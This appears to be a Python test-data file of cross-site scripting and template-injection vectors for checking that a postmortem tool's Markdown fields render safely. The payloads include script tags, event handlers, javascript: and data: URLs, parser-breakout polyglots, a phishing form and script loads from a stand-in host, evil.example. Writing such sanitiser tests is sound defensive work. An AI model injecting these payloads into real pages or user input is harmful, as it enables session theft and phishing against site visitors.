"""Cross-site scripting attempts, written the way someone might type them into a postmortem.

Every Markdown field must render each of these without a script, an event handler, a style
or a dangerous URL surviving. Names become test ids, so keep them short and distinct.
"""

from typing import NamedTuple


class XssVector(NamedTuple):
    name: str
    text: str


XSS_VECTORS = [
    # Script elements.
    XssVector("script", "<script>alert(1)</script>"),
    XssVector("script-mixed-case", "<ScRiPt>alert(1)</sCrIpT>"),
    XssVector("script-upper-case", "<SCRIPT>alert(1)</SCRIPT>"),
    XssVector("script-with-src", '<script src="https://evil.example/x.js"></script>'),
    XssVector("script-unclosed", "<script>alert(1)"),
    XssVector("script-nested", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    XssVector("script-with-attributes", '<script type="text/javascript" defer>alert(1)</script>'),
    XssVector("script-slash-separator", "<script/src=//evil.example/x.js></script>"),
    XssVector("script-space-before-close", "<script >alert(1)</script >"),
    XssVector("script-inside-paragraph", "Before <script>alert(1)</script> after."),
    XssVector("script-inside-list", "- one\n- <script>alert(1)</script>\n- three"),
    XssVector("script-inside-blockquote", "> <script>alert(1)</script>"),
    XssVector("script-inside-table", "| a | b |\n|---|---|\n| <script>alert(1)</script> | 2 |"),
    XssVector("script-after-heading", "# Title\n<script>alert(1)</script>"),
    XssVector("script-double-open", "<<script>alert(1);//<</script>"),
    XssVector("script-null-byte", "<scr\x00ipt>alert(1)</scr\x00ipt>"),
    XssVector("script-in-markdown-emphasis", "**<script>alert(1)</script>**"),
    XssVector("script-closing-title", "</title><script>alert(1)</script>"),
    XssVector("script-closing-textarea", "</textarea><script>alert(1)</script>"),
    # Event-handler attributes.
    XssVector("img-onerror", "<img src=x onerror=alert(1)>"),
    XssVector("img-onerror-quoted", '<img src="x" onerror="alert(1)">'),
    XssVector("img-onerror-mixed-case", "<IMG SRC=x OnErRoR=alert(1)>"),
    XssVector("img-onerror-slash", "<img/src=x/onerror=alert(1)>"),
    XssVector("img-onerror-backticks", "<img src=`x` onerror=`alert(1)`>"),
    XssVector("img-onload", '<img src="https://example.com/a.png" onload="alert(1)">'),
    XssVector("svg-onload", "<svg onload=alert(1)>"),
    XssVector("svg-slash-onload", "<svg/onload=alert(1)>"),
    XssVector("body-onload", "<body onload=alert(1)>"),
    XssVector("a-onmouseover", '<a href="https://example.com" onmouseover="alert(1)">hover</a>'),
    XssVector("a-onclick", '<a onclick="alert(1)">click</a>'),
    XssVector("details-ontoggle", "<details open ontoggle=alert(1)><summary>x</summary></details>"),
    XssVector("video-onerror", "<video src=x onerror=alert(1)></video>"),
    XssVector("video-source-onerror", "<video><source onerror=alert(1)></video>"),
    XssVector("audio-onerror", "<audio src=x onerror=alert(1)></audio>"),
    XssVector("input-onfocus-autofocus", "<input onfocus=alert(1) autofocus>"),
    XssVector("select-onfocus-autofocus", "<select onfocus=alert(1) autofocus></select>"),
    XssVector("textarea-onfocus-autofocus", "<textarea onfocus=alert(1) autofocus></textarea>"),
    XssVector("marquee-onstart", "<marquee onstart=alert(1)>x</marquee>"),
    XssVector("div-onmouseover", "<div onmouseover=alert(1)>hover me</div>"),
    XssVector("p-onclick", "<p onclick=alert(1)>click me</p>"),
    XssVector("table-onmouseover", "<table onmouseover=alert(1)><tr><td>x</td></tr></table>"),
    XssVector("code-onclick", "<code onclick=alert(1)>x</code>"),
    XssVector("strong-onpointerenter", "<strong onpointerenter=alert(1)>x</strong>"),
    XssVector("span-onanimationstart", "<span onanimationstart=alert(1)>x</span>"),
    XssVector("keygen-onfocus", "<keygen autofocus onfocus=alert(1)>"),
    XssVector("isindex-onmouseover", "<isindex type=image src=1 onerror=alert(1)>"),
    XssVector("handler-after-newline", "<img src=x\nonerror=alert(1)>"),
    XssVector("handler-with-entity", "<img src=x onerror=&#97;lert(1)>"),
    # Dangerous schemes in Markdown inline links.
    XssVector("md-link-javascript", "[x](javascript:alert(1))"),
    XssVector("md-link-javascript-upper", "[x](JAVASCRIPT:alert(1))"),
    XssVector("md-link-javascript-mixed-case", "[x](JaVaScRiPt:alert(1))"),
    XssVector("md-link-vbscript", "[x](vbscript:msgbox(1))"),
    XssVector("md-link-data-html", "[x](data:text/html,<script>alert(1)</script>)"),
    XssVector(
        "md-link-data-base64",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    ),
    XssVector("md-link-decimal-entity", "[x](&#106;avascript:alert(1))"),
    XssVector("md-link-hex-entity", "[x](&#x6A;avascript:alert(1))"),
    XssVector("md-link-padded-entity", "[x](&#0000106;&#0000097;vascript:alert(1))"),
    XssVector("md-link-entity-colon", "[x](javascript&colon;alert(1))"),
    XssVector("md-link-entity-colon-numeric", "[x](javascript&#58;alert(1))"),
    XssVector("md-link-tab-in-scheme", "[x](java\tscript:alert(1))"),
    XssVector("md-link-tab-entity-in-scheme", "[x](java&#9;script:alert(1))"),
    XssVector("md-link-newline-entity-in-scheme", "[x](java&#10;script:alert(1))"),
    XssVector("md-link-leading-space", "[x]( javascript:alert(1))"),
    XssVector("md-link-leading-control", "[x](\x01javascript:alert(1))"),
    XssVector("md-link-percent-encoded", "[x](%6Aavascript:alert(1))"),
    XssVector("md-link-angle-brackets", "[x](<javascript:alert(1)>)"),
    XssVector("md-link-javascript-with-title", '[x](javascript:alert(1) "title")'),
    XssVector("md-link-nested-brackets", "[[x]](javascript:alert(1))"),
    XssVector("md-link-escaped-paren", r"[x](javascript:alert\(1\))"),
    XssVector("md-link-comment-in-scheme", "[x](javascript://%0Aalert(1))"),
    XssVector("md-link-file-scheme", "[x](file:///etc/passwd)"),
    # Reference-style links and autolinks.
    XssVector("md-reference-link", "[x][evil]\n\n[evil]: javascript:alert(1)"),
    XssVector("md-reference-link-titled", '[x][evil]\n\n[evil]: javascript:alert(1) "Title"'),
    XssVector("md-reference-link-angle", "[x][evil]\n\n[evil]: <javascript:alert(1)>"),
    XssVector("md-reference-link-entity", "[evil]\n\n[evil]: &#106;avascript:alert(1)"),
    XssVector("md-autolink-javascript", "<javascript:alert(1)>"),
    XssVector("md-autolink-mixed-case", "<JaVaScRiPt:alert(1)>"),
    XssVector("md-autolink-vbscript", "<vbscript:msgbox(1)>"),
    XssVector("md-autolink-data", "<data:text/html,<script>alert(1)</script>>"),
    # Images.
    XssVector("md-image-javascript", "![x](javascript:alert(1))"),
    XssVector("md-image-data-svg", "![x](data:image/svg+xml,<svg onload=alert(1)>)"),
    XssVector(
        "md-image-data-html", "![x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"
    ),
    XssVector("md-image-entity-scheme", "![x](&#106;avascript:alert(1))"),
    XssVector("md-image-reference", "![x][pic]\n\n[pic]: javascript:alert(1)"),
    XssVector("md-image-alt-breakout", '![x" onerror="alert(1)](https://example.com/a.png)'),
    XssVector("md-image-in-link", "[![x](https://example.com/a.png)](javascript:alert(1))"),
    XssVector("html-img-javascript-src", '<img src="javascript:alert(1)">'),
    XssVector("html-img-srcset", '<img srcset="javascript:alert(1) 1x">'),
    # Raw HTML links and URL-bearing attributes.
    XssVector("html-a-javascript", '<a href="javascript:alert(1)">x</a>'),
    XssVector(
        "html-a-javascript-entities", '<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>'
    ),
    XssVector("html-a-javascript-newline", '<a href="java\nscript:alert(1)">x</a>'),
    XssVector("html-a-javascript-unquoted", "<a href=javascript:alert(1)>x</a>"),
    XssVector("html-a-vbscript", '<a href="vbscript:msgbox(1)">x</a>'),
    XssVector(
        "html-a-data", '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</a>'
    ),
    XssVector("html-a-target-blank", '<a href="https://example.com" target="_blank">x</a>'),
    XssVector("html-a-xlink", '<a xlink:href="javascript:alert(1)">x</a>'),
    XssVector("html-area-href", '<map><area href="javascript:alert(1)" shape="rect"></map>'),
    XssVector("html-blockquote-cite", '<blockquote cite="javascript:alert(1)">x</blockquote>'),
    XssVector("html-video-poster", '<video poster="javascript:alert(1)"></video>'),
    XssVector(
        "html-table-background", '<table background="javascript:alert(1)"><tr><td>x</td></tr>'
    ),
    # SVG and MathML.
    XssVector("svg-script", "<svg><script>alert(1)</script></svg>"),
    XssVector("svg-script-href", '<svg><script href="data:,alert(1)"/></svg>'),
    XssVector(
        "svg-a-xlink-href", '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'
    ),
    XssVector("svg-animate-onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    XssVector(
        "svg-animate-href",
        '<svg><a><animate attributeName="href" values="javascript:alert(1)"/>'
        "<text>x</text></a></svg>",
    ),
    XssVector("svg-set-onbegin", "<svg><set onbegin=alert(1) attributeName=x to=y>"),
    XssVector("svg-foreignobject", "<svg><foreignObject><img src=x onerror=alert(1)>"),
    XssVector("svg-use-data", '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x">'),
    XssVector("math-href", '<math href="javascript:alert(1)">click</math>'),
    XssVector(
        "math-maction",
        '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction>'
        "</math>",
    ),
    XssVector(
        "math-mtext-breakout", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"
    ),
    # Style.
    XssVector("style-expression", "<style>body { width: expression(alert(1)); }</style>"),
    XssVector("style-import", '<style>@import "https://evil.example/x.css";</style>'),
    XssVector(
        "style-url-javascript", "<style>body { background: url(javascript:alert(1)); }</style>"
    ),
    XssVector("style-breakout", "<style></style><img src=x onerror=alert(1)>"),
    XssVector("style-attribute-expression", '<p style="width: expression(alert(1))">x</p>'),
    XssVector(
        "style-attribute-url", "<div style=\"background:url('javascript:alert(1)')\">x</div>"
    ),
    XssVector(
        "style-attribute-overlay", '<a href="https://example.com" style="position:fixed">x</a>'
    ),
    XssVector("style-attribute-behavior", '<p style="behavior: url(x.htc)">x</p>'),
    # Embedded documents and forms.
    XssVector("iframe-javascript", '<iframe src="javascript:alert(1)"></iframe>'),
    XssVector("iframe-https", '<iframe src="https://evil.example/"></iframe>'),
    XssVector("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'),
    XssVector("frameset", '<frameset><frame src="javascript:alert(1)"></frameset>'),
    XssVector("object-data", '<object data="javascript:alert(1)"></object>'),
    XssVector("object-data-html", '<object data="data:text/html,<script>alert(1)</script>">'),
    XssVector("embed-src", '<embed src="javascript:alert(1)">'),
    XssVector("embed-svg", '<embed src="data:image/svg+xml,<svg onload=alert(1)>">'),
    XssVector("applet", '<applet code="Evil.class"></applet>'),
    XssVector("form-action", '<form action="javascript:alert(1)"><input type=submit></form>'),
    XssVector(
        "button-formaction",
        '<form><button formaction="javascript:alert(1)">go</button></form>',
    ),
    XssVector("input-formaction", '<input type=image formaction="javascript:alert(1)">'),
    XssVector("form-phishing", '<form action="https://evil.example/login"><input name=p></form>'),
    XssVector(
        "meta-refresh",
        '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    ),
    XssVector("meta-refresh-data", '<meta http-equiv="refresh" content="0;url=data:text/html,x">'),
    XssVector("base-href", '<base href="javascript:alert(1)//">'),
    XssVector("base-href-hijack", '<base href="https://evil.example/">'),
    XssVector("link-import", '<link rel="import" href="https://evil.example/x.html">'),
    XssVector("link-stylesheet", '<link rel="stylesheet" href="javascript:alert(1)">'),
    # Comments, CDATA and parser confusion.
    XssVector("comment-breakout", "<!--><script>alert(1)</script>-->"),
    XssVector("comment-conditional", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"),
    XssVector("comment-dashes", "<!-- --!><img src=x onerror=alert(1)> -->"),
    XssVector("cdata-breakout", "<![CDATA[><script>alert(1)</script>]]>"),
    XssVector("cdata-in-svg", "<svg><![CDATA[><image xlink:href=]]><img src=x onerror=alert(1)>"),
    XssVector("noscript-breakout", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    XssVector("title-breakout", "<title><img src=x onerror=alert(1)></title>"),
    XssVector("textarea-breakout", "<textarea><img src=x onerror=alert(1)></textarea>"),
    XssVector("xmp-breakout", "<xmp><img src=x onerror=alert(1)></xmp>"),
    XssVector("template-content", "<template><img src=x onerror=alert(1)></template>"),
    XssVector("processing-instruction", "<?xml-stylesheet href=javascript:alert(1)?>"),
    XssVector("unclosed-attribute", '<img src="x" onerror="alert(1)'),
    XssVector("code-span-breakout", "`</code><script>alert(1)</script>`"),
    XssVector("fenced-code-breakout", "```\n</code></pre><script>alert(1)</script>\n```"),
    XssVector("fenced-code-language-breakout", '```"><script>alert(1)</script>\nx\n```'),
    XssVector("fenced-code-language-onclick", "```x onclick=alert(1)\nx\n```"),
    # Attribute breakouts through Markdown link titles and text.
    XssVector("md-title-breakout", '[x](https://a "\\" onmouseover=alert(1) x=\\"")'),
    XssVector("md-title-single-quotes", "[x](https://a 'x' onmouseover='alert(1)')"),
    XssVector("md-title-entity-quote", '[x](https://a "&quot; onmouseover=alert(1) x=&quot;")'),
    XssVector("md-url-quote-breakout", '[x](https://a"onmouseover="alert(1))'),
    XssVector("md-reference-title-breakout", '[x][r]\n\n[r]: https://a "\\" onclick=alert(1) \\""'),
    XssVector("md-image-title-breakout", '![x](https://a/b.png "\\" onerror=alert(1) x=\\"")'),
    XssVector("md-link-text-html", "[<img src=x onerror=alert(1)>](https://example.com)"),
    XssVector("md-table-cell-handler", "| a |\n|---|\n| <b onmouseover=alert(1)>x</b> |"),
    XssVector("md-heading-handler", "## <em onclick=alert(1)>x</em>"),
    XssVector("md-attr-list-syntax", "Paragraph\n{: onclick=alert(1) style=color:red }"),
    XssVector("md-html-block-with-markdown", '<div markdown="1" onclick="alert(1)">*x*</div>'),
    # Template injection: Debrief must show these as text, never evaluate them.
    XssVector("template-variable", "{{ 7*7 }}"),
    XssVector("template-debug-tag", "{% debug %}"),
    XssVector("template-load-tag", "{% load static %}{% static 'x' %}"),
    XssVector("template-settings", "{{ settings.SECRET_KEY }}"),
    XssVector("template-comment", "{# hidden #}"),
    XssVector("jinja-class-walk", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    XssVector("angular-expression", "{{constructor.constructor('alert(1)')()}}"),
    # Polyglots.
    XssVector(
        "polyglot-classic",
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//"
        "</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
    ),
    XssVector(
        "polyglot-attribute",
        "\"'><img src=x onerror=alert(1)><svg onload=alert(2)><!--",
    ),
    XssVector(
        "polyglot-markdown-html",
        "[a](javascript:alert(1))<img src=x onerror=alert(2)>"
        '<a href="javascript:alert(3)">b</a>![c](javascript:alert(4))',
    ),
    XssVector(
        "polyglot-mutation",
        '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    ),
    XssVector(
        "polyglot-dom-clobbering",
        '<form id="x"><input name="attributes"></form><img name="getElementById">',
    ),
]
